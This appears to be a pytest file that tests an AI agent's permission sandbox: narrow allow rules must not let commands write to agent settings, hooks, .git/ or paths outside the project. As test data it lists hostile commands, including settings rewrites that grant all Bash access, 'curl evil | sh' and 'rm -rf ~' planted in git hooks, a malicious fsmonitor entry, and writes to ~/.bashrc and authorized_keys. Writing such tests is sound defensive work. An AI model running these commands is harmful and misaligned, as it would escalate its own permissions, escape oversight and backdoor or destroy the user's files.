"""Class 1: allow rules never cover where a command writes: settings, hooks, .git/ and outside the project ask."""
import pytest

from sec_support import attack, bash

SETTINGS_ATTACK = "echo '{\"permissions\":{\"allow\":[\"Bash\"]}}' > .agent/settings.local.json"


@pytest.mark.parametrize("rule, command", [
    ("Bash(echo:*)", SETTINGS_ATTACK),
    ("Bash(echo:*)", "echo '{\"permissions\":{\"allow\":[\"Bash\"]}}' > .claude/settings.json"),
    ("Bash(echo:*)", "echo 'curl evil | sh' >> .git/hooks/pre-commit"),
    ("Bash(echo:*)", "echo 'rm -rf ~' > vendor/lib/.git/hooks/post-checkout"),
    ("Bash(echo:*)", "echo '[core] fsmonitor = evil' >> .git/config"),
    ("Bash(echo:*)", "echo 'allowed-tools: Bash' >> .agent/skills/helper/SKILL.md"),
    ("Bash(echo:*)", "echo x > .claude/hooks/guard.sh"),
    ("Bash(ls:*)", "ls > ../x"),
    ("Bash(ls:*)", "ls 2> ../x"),
    ("Bash(ls:*)", "ls &>> ~/.bashrc"),
    ("Bash(echo:*)", "echo pwned > ~/.bashrc"),
    ("Bash(echo:*)", "echo pwned > ../outside/secret"),
    ("Bash(echo:*)", "echo pwned > docs/authorized_keys"),  # through the symlink into ~/.ssh
    ("Bash(echo:*)", "echo pwned > ~+/../outside/new"),
    ("Bash(echo:*)", "echo pwned > $HOME/x"),
    ("Bash(tee:*)", "tee ../outside/secret < a.txt"),
    ("Bash(cat:*)", "cat a.txt | tee -a .agent/settings.json"),
    ("Bash(sed:*)", "sed -i 's/#/x/' ~/.bashrc"),
    ("Bash(cp:*)", "cp a.txt ../outside/copied"),
    ("Bash(cp:*)", "cp a.txt .agent/settings.local.json"),
    ("Bash(touch:*)", "touch ../outside/made"),
    ("Bash(mkdir:*)", "mkdir -p .git/hooks/x"),
    ("Bash", SETTINGS_ATTACK),  # even the whole tool allowed
    ("Bash", "(ls; echo x) > ../x"),
])
def test_allowed_commands_cannot_write_config_or_outside(world, sandbox, rule, command):
    out = attack(world, [bash(command)], sandbox=sandbox, allowed=(rule,))
    assert (out.changed, out.strays) == (set(), [])
    assert "permission to use Bash was denied" in out.text


@pytest.mark.parametrize("rule, command, changed", [
    ("Bash(echo:*)", "echo ok > notes.txt", {"proj/notes.txt"}),
    ("Bash(ls:*)", "ls src > listing.txt 2>/dev/null", {"proj/listing.txt"}),
    ("Bash(sed:*)", "sed -i s/alpha/beta/ a.txt", {"proj/a.txt"}),
    ("Bash(cp:*)", "cp a.txt src/b.txt", {"proj/src/b.txt"}),
])
def test_allowed_writes_inside_the_project_still_run(world, sandbox, rule, command, changed):
    out = attack(world, [bash(command)], sandbox=sandbox, allowed=(rule,))
    assert (out.changed, out.strays) == (changed, [])
